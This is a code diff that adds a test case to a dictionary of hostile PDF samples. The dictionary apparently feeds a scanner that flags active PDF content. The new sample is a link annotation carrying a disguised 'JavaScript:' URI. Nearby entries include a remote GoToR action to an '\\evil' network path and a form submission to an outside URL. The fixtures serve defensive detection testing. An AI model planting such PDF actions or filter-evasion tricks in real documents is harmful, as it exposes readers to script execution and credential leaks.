@@ -243,6 +243,11 @@ TRICKS: dict[str, tuple[str, bytes, str]] = {
         pdf({"/OpenAction": action(S=NAME.GoToR, F="\\\\evil\\x.pdf", D=pikepdf.Array([0]))}),
         "pdf_active",
     ),
+    "a link to a script in a PDF": (
+        "report.pdf",
+        raw_pdf(b"<</Type/Annot/Subtype/Link/A<</S/URI/URI( JavaScript:alert\\(1\\))>>>>"),
+        "pdf_active",
+    ),
     "a PDF that sends a form": (
         "report.pdf",
         pdf({"/OpenAction": pikepdf.Array([action(S=NAME.SubmitForm, F="https://x")])}),
